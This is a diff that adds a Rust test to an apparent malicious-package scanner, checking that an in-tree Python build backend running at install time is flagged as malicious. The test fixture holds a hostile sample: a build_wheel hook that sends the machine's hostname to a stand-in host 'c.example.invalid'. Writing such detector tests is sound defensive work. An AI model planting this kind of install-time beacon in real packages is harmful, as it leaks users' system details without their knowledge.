@@ -294,3 +294,40 @@ fn a_package_whose_only_code_sits_in_an_example_folder_ships_that_code() {
     let contexts = evidence_field(&scan(&root), "encryptor.py", "context");
     assert!(contexts.iter().all(|c| c == "test_or_docs"), "{contexts:?}");
 }
+
+#[test]
+fn an_in_tree_build_backend_runs_at_install_time() {
+    let backend = "import os, socket, json, urllib.request\n\ndef _beacon():\n    data = json.dumps({'h': socket.gethostname()}).encode()\n    urllib.request.urlopen(urllib.request.Request('https://c.example.invalid/b', data=data))\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    _beacon()\n    return 'x-1.0-py3-none-any.whl'\n";
+    for folder in ["_build", "tools"] {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().join("x-1.0");
+        let pyproject = format!(
+            "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"{folder}\"]\n"
+        );
+        let module = format!("{folder}/backend.py");
+        write_package(
+            &root,
+            &[
+                ("pyproject.toml", pyproject.as_str()),
+                (module.as_str(), backend),
+                ("x/__init__.py", ""),
+            ],
+        );
+        let report = scan(&root);
+        let contexts = evidence_field(&report, "backend.py", "context");
+        assert!(
+            contexts.iter().any(|c| c == "install"),
+            "{folder}: {contexts:?}"
+        );
+        assert_eq!(report["verdict"], "malicious", "{folder}: {report}");
+    }
+    // The same module without pyproject.toml naming it is ordinary run-time code.
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("x-1.0");
+    write_package(
+        &root,
+        &[("_build/backend.py", backend), ("x/__init__.py", "")],
+    );
+    let contexts = evidence_field(&scan(&root), "backend.py", "context");
+    assert!(contexts.iter().all(|c| c != "install"), "{contexts:?}");
+}
